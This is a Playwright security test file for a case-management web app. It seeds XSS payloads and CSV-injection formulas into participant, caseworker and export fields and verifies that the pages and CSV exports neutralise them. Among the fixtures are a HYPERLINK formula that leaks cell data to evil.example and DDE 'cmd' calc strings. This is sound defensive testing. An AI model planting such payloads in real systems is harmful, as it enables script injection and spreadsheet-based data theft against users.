import { writeFile } from "node:fs/promises";
import { parse } from "csv-parse/sync";
import type { Browser, BrowserContext, Page } from "@playwright/test";
import postgres from "postgres";
import { makeNik, makePhone } from "../lib/testing/identity";
import { demo, expect, signIn, test } from "./fixtures";
import { fillRegistration, registrationForm, submitRegistration } from "./pages";

// "A name like <script>alert(1)</script> shows as text everywhere."
//
// Forms refuse a name with "<", but data also arrives by other means. Hostile text goes
// in by every way there is, then every page that shows it is opened by the role that
// sees it: the literal text must be on the page, no dialog may open, and no element or
// event handler may have been made from it. The CSV exports must not let a spreadsheet
// run a cell as a formula (OWASP "CSV injection").
//
// Through the app itself (PGlite and PostgreSQL): the sector and address of a
// registration, help requests, a cohort name, and the names on refused lines of an
// import (shown in its report). Straight into the database (PostgreSQL only: the
// embedded PGlite is held open by the server): participants' and caseworkers' names, an
// email, a service log's note, an assignment, an outbox message.

const DATABASE_URL = process.env.DATABASE_URL;
const onPostgres = Boolean(DATABASE_URL);

/** Letters only (names allow no digits), different on each run. */
const tag = String(Date.now())
  .slice(-6)
  .split("")
  .map((d) => "abcdefghij"[Number(d)])
  .join("");

const HTML = {
  name: "<script>alert(1)</script>",
  caseworker: '"><img src=x onerror=alert(1)>',
  sector: '"><iframe srcdoc="<script>alert(2)</script>">',
  address: "<b onmouseover=alert(3)>Jl. Mawar No. 1</b>",
  helpA: '</textarea><script>alert("bantuan")</script>',
  helpB: "<svg onload=alert(4)>Tolong dibantu",
  note: "<img src=x onerror=alert('catatan')>",
  cohort: `<script>alert('kohort ${tag}')</script>`,
  outbox: "<a href=javascript:alert(5) onclick=alert(5)>pesan</a>",
} as const;

const FORMULA = {
  /** Through the registration form (sector is free text). */
  sector: '=HYPERLINK("http://evil.example/?d="&A2,"Klik")',
  /** A spreadsheet that splits lines at ";" (a decimal-comma locale) starts a cell at "=". */
  semicolon: "Pekerja rumah tangga;=cmd|' /C calc'!A0;",
  // Straight into the database (PostgreSQL):
  name: "-2+3+cmd|' /C calc'!A0",
  email: `+cmd.${tag}@evil.example`,
  caseworker: "@SUM(1+1)*cmd|' /C calc'!A0",
} as const;

/** Names refused by the import check, shown on its report and in the report's CSV. */
const IMPORT_NAMES = [HTML.name, HTML.caseworker, '=HYPERLINK("http://evil.example","Klik")', "+1+1", "-1+1", "@SUM(1+1)"];

const FORMULA_START = /^[=+\-@\t\r]/;

type Registered = { id: string; email: string; password: string; name: string; helpId?: string };
const state: {
  a?: Registered;
  b?: Registered;
  c?: Registered;
  importId?: string;
  cw1?: { id: string; email: string };
} = {};

// ---------------------------------------------------------------------------
// Setting up: through the app, then (PostgreSQL) straight into the database
// ---------------------------------------------------------------------------

async function register(browser: Browser, fields: Record<string, string>, help?: string): Promise<Registered> {
  const context = await browser.newContext();
  const page = await context.newPage();
  const form = registrationForm(fields);
  await page.goto("/register");
  await fillRegistration(page, form);
  await submitRegistration(page);
  await page.waitForURL("**/me");
  await page.goto("/me/help");
  const id = await page.locator('input[name="participantId"]').inputValue();
  let helpId: string | undefined;
  if (help) {
    await page.locator('select[name="topic"]').selectOption("other");
    await page.locator('textarea[name="message"]').fill(help);
    await page.locator("form").filter({ has: page.locator('textarea[name="message"]') }).locator('button[type="submit"]').click();
    await expect(page.locator('textarea[name="message"]')).toHaveValue("");
    await page.goto("/me/help");
    const link = page.locator('a[href^="/me/help/"]').first();
    helpId = (await link.getAttribute("href"))?.split("/").pop();
  }
  await context.close();
  return { id, email: form.email, password: form.password, name: form.fullName, helpId };
}

async function uploadImport(page: Page, file: string): Promise<string> {
  await page.goto("/pmo/imports");
  await page.getByLabel("Nama kohort").fill(HTML.cohort);
  await page.getByLabel("Berkas CSV").setInputFiles(file);
  await page.getByRole("button", { name: "Unggah dan periksa" }).click();
  await page.waitForURL(/\/pmo\/imports\/[0-9a-f-]{36}$/);
  await expect(page.locator("[data-state]")).toHaveAttribute("data-state", "checked", { timeout: 30_000 });
  return page.url().split("/").pop()!;
}

function importFile(): string {
  const header = "nik,nama_lengkap,tanggal_lahir,jenis_kelamin,no_hp,kode_provinsi,negara_penempatan,tanggal_kedatangan,lokasi_karantina";
  const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
  const lines = IMPORT_NAMES.map(
    (name) => `${makeNik({ birthDate: "1991-04-12", sex: "L" })},${quote(name)},1991-04-12,L,${makePhone()},31,MY,2021-06-10,Wisma Atlet`,
  );
  return [header, ...lines].join("\r\n") + "\r\n";
}

/** What only a direct write can put in: names, an email, a note, an assignment, a message. */
async function writeStraightIntoDatabase(): Promise<void> {
  const sql = postgres(DATABASE_URL!, { max: 1, onnotice: () => {} });
  try {
    // The demo caseworker's password hash: the new caseworker signs in with the demo password.
    const [{ password_hash: hash }] = await sql<{ password_hash: string }[]>`
      select password_hash from users where email = ${demo.caseworker1}`;
    const [cw1] = await sql<{ id: string }[]>`
      insert into users (role, name, email, password_hash) values ('caseworker', ${HTML.caseworker}, ${`cw1.${tag}@pendamping.test`}, ${hash})
      returning id`;
    const [cw2] = await sql<{ id: string }[]>`
      insert into users (role, name, email, password_hash) values ('caseworker', ${FORMULA.caseworker}, ${`cw2.${tag}@pendamping.test`}, ${hash})
      returning id`;
    state.cw1 = { id: cw1.id, email: `cw1.${tag}@pendamping.test` };

    const a = state.a!;
    const b = state.b!;
    const c = state.c!;
    await sql`update participants set full_name = ${HTML.name}, caseworker_id = ${cw1.id} where id = ${a.id}`;
    await sql`update users set name = ${HTML.name} where id = (select user_id from participants where id = ${a.id})`;
    await sql`update participants set full_name = ${FORMULA.name}, cohort = ${HTML.cohort} where id = ${b.id}`;
    await sql`update users set name = ${FORMULA.name}, email = ${FORMULA.email} where id = (select user_id from participants where id = ${b.id})`;
    await sql`update participants set caseworker_id = ${cw2.id} where id = ${c.id}`;
    await sql`
      insert into service_logs (participant_id, caseworker_id, service_code, occurred_on, channel, outcome, notes)
      values (${a.id}, ${cw1.id}, 'prakerja_account', current_date, 'phone', 'done', ${HTML.note})`;
    await sql`
      insert into outbox_messages (channel, recipient, subject, body, state, kind, participant_id)
      values ('email', ${a.email}, ${HTML.outbox}, ${HTML.outbox}, 'recorded', 'deadline_reminder', ${a.id})`;
  } finally {
    await sql.end();
  }
}

// ---------------------------------------------------------------------------
// Visiting
// ---------------------------------------------------------------------------

/** Elements and handlers that only an injection could have made (React renders neither). */
function injected(): string[] {
  const found: string[] = [];
  for (const el of Array.from(document.querySelectorAll("*"))) {
    for (const attr of Array.from(el.attributes)) {
      if (/^on/i.test(attr.name)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}>`);
      if (/^\s*javascript:/i.test(attr.value)) found.push(`<${el.tagName.toLowerCase()} ${attr.name}=javascript:>`);
    }
  }
  for (const el of Array.from(document.querySelectorAll('img[src="x"], iframe[srcdoc], svg[onload]'))) found.push(el.outerHTML.slice(0, 100));
  for (const script of Array.from(document.scripts)) {
    if (/^\s*alert\(/.test(script.textContent ?? "")) found.push(`<script>${script.textContent}</script>`);
  }
  return found;
}

async function expectShownAsText(page: Page, url: string, texts: string[]): Promise<void> {
  const dialogs: string[] = [];
  const onDialog = (dialog: { message: () => string; dismiss: () => Promise<void> }) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  };
  page.on("dialog", onDialog);
  try {
    const response = await page.goto(url);
    expect(response?.status(), url).toBe(200);
    await page.waitForLoadState("load");
    for (const text of texts) {
      // Shown on the page, not only as a choice in a closed select.
      await expect(page.getByText(text, { exact: false }).filter({ visible: true }).first(), `${url} shows ${text} as text`).toBeVisible();
    }
    expect(await page.evaluate(injected), `${url}: elements made from hostile text`).toEqual([]);
    expect(dialogs, `${url}: dialogs opened`).toEqual([]);
  } finally {
    page.off("dialog", onDialog);
  }
}

async function signedIn(browser: Browser, email: string, password: string): Promise<{ context: BrowserContext; page: Page }> {
  const context = await browser.newContext();
  const page = await context.newPage();
  await signIn(page, email, password);
  return { context, page };
}

const pg = <T,>(value: T): T[] => (onPostgres ? [value] : []);

// ---------------------------------------------------------------------------
// The tests
// ---------------------------------------------------------------------------

test.describe.configure({ mode: "serial" });

test.describe("hostile text shows as text", () => {
  test.beforeAll(async ({ browser }, testInfo) => {
    testInfo.setTimeout(180_000);
    state.a = await register(
      browser,
      { fullName: `Uji Aman ${tag}`, sector: HTML.sector, address: HTML.address },
      HTML.helpA,
    );
    state.b = await register(browser, { fullName: `Uji Rumus ${tag}`, sector: FORMULA.sector }, HTML.helpB);
    state.c = await register(browser, { fullName: `Uji Titik Koma ${tag}`, sector: FORMULA.semicolon });

    const file = testInfo.outputPath("hostile-import.csv");
    await writeFile(file, importFile());
    const { context, page } = await signedIn(browser, demo.pmo, demo.password);
    state.importId = await uploadImport(page, file);
    await context.close();

    if (onPostgres) await writeStraightIntoDatabase();
  });

  test("the participant's pages", async ({ browser }) => {
    const a = state.a!;
    const { context, page } = await signedIn(browser, a.email, a.password);
    await expectShownAsText(page, "/me", [...pg(HTML.name), ...pg(HTML.caseworker)]);
    await expectShownAsText(page, "/me/help", [HTML.helpA]);
    await expectShownAsText(page, `/me/help/${a.helpId}`, [HTML.helpA]);
    await context.close();
  });

  test("the caseworker's caseload and case file", async ({ browser }) => {
    test.skip(!onPostgres, "needs a participant assigned straight in the database (PostgreSQL)");
    const a = state.a!;
    const { context, page } = await signedIn(browser, state.cw1!.email, demo.password);
    await expectShownAsText(page, "/caseworker", [HTML.name]);
    await expectShownAsText(page, `/caseworker/participants/${a.id}`, [HTML.name, HTML.note, HTML.helpA, HTML.sector]);
    await context.close();
  });

  test("the PMO's pages", async ({ browser }) => {
    const [a, b] = [state.a!, state.b!];
    const { context, page } = await signedIn(browser, demo.pmo, demo.password);
    await expectShownAsText(page, "/pmo", [...pg(HTML.caseworker), ...pg(FORMULA.caseworker)]);
    await expectShownAsText(page, `/pmo/participants?q=${encodeURIComponent(onPostgres ? "alert(1)" : tag)}`, pg(HTML.name));
    await expectShownAsText(page, "/pmo/participants", [...pg(HTML.name), ...pg(FORMULA.name), ...pg(HTML.caseworker)]);
    await expectShownAsText(page, `/pmo/participants/${a.id}`, [HTML.sector, HTML.address, ...pg(HTML.name), ...pg(HTML.note), ...pg(HTML.caseworker)]);
    await expectShownAsText(page, `/pmo/participants/${b.id}`, [FORMULA.sector, ...pg(FORMULA.name), ...pg(HTML.cohort), ...pg(FORMULA.email)]);
    await expectShownAsText(page, "/pmo/caseworkers", [...pg(HTML.caseworker), ...pg(FORMULA.caseworker)]);
    // Searched for: the list pages 25 at a time, oldest first, and other specs add rows.
    await expectShownAsText(page, `/pmo/caseworkers?assigned=all&q=${encodeURIComponent("alert(1)")}`, pg(HTML.name));
    // Requests of participants without a caseworker (on PostgreSQL the first one is assigned).
    await expectShownAsText(page, "/pmo/help", [HTML.helpB, ...(onPostgres ? [] : [HTML.helpA])]);
    await expectShownAsText(page, "/pmo/imports", [HTML.cohort]);
    await expectShownAsText(page, `/pmo/imports/${state.importId}`, [HTML.cohort, ...IMPORT_NAMES]);
    await expectShownAsText(page, "/pmo/audit", [...pg(HTML.name), ...pg(HTML.caseworker)]);
    await expectShownAsText(page, "/pmo/outbox", pg(HTML.outbox));
    await context.close();
  });

  test("the participants export: no cell starts a formula", async ({ browser }) => {
    const { context, page } = await signedIn(browser, demo.pmo, demo.password);
    const response = await page.request.get("/pmo/participants/export");
    expect(response.status()).toBe(200);
    const rows: Record<string, string>[] = parse(await response.text(), { bom: true, columns: true });
    const byId = new Map(rows.map((r) => [r.id, r]));
    const [b, c] = [byId.get(state.b!.id)!, byId.get(state.c!.id)!];
    // Free text typed by people, each kept whole behind a leading apostrophe.
    const cells: [string, string | undefined, string][] = [
      ["sektor", b.sektor, FORMULA.sector],
      ...pg<[string, string | undefined, string]>(["nama_lengkap", b.nama_lengkap, FORMULA.name]),
      ...pg<[string, string | undefined, string]>(["email", b.email, FORMULA.email]),
      ...pg<[string, string | undefined, string]>(["pendamping", c.pendamping, FORMULA.caseworker]),
    ];
    for (const [column, cell, typed] of cells) {
      expect(cell, column).not.toMatch(FORMULA_START);
      expect(cell, column).toBe(`'${typed}`);
    }
    for (const row of rows) {
      for (const column of ["nama_lengkap", "email", "sektor", "pendamping"]) expect(row[column], `${row.id} ${column}`).not.toMatch(FORMULA_START);
    }
    await context.close();
  });

  test("the import report's CSV: no cell starts a formula", async ({ browser }) => {
    const { context, page } = await signedIn(browser, demo.pmo, demo.password);
    const response = await page.request.get(`/pmo/imports/${state.importId}/report`);
    expect(response.status()).toBe(200);
    const rows: Record<string, string>[] = parse(await response.text(), { bom: true, columns: true });
    expect(rows.map((r) => r.nama_lengkap.replace(/^'/, ""))).toEqual(IMPORT_NAMES);
    for (const row of rows) {
      for (const [column, cell] of Object.entries(row)) expect(cell, `line ${row.baris} ${column}`).not.toMatch(FORMULA_START);
    }
    await context.close();
  });

  // OWASP: "take care of the field separator (e.g. ',' or ';') ... as attackers could use
  // this to start a new cell". A spreadsheet set to a decimal comma (Indonesian regional
  // settings) splits a .csv at ";", ignoring the quotes that protect commas.
  test("the participants export: no cell starts a formula when split at semicolons", async ({ browser }) => {
    const { context, page } = await signedIn(browser, demo.pmo, demo.password);
    const text = await (await page.request.get("/pmo/participants/export")).text();
    const line = text.split("\r\n").find((l) => l.startsWith(state.c!.id))!;
    const cells = line.split(";").slice(1);
    expect(
      cells.filter((cell) => FORMULA_START.test(cell)),
      `cells a ";"-splitting spreadsheet would run, from: ${line}`,
    ).toEqual([]);
    await context.close();
  });
});
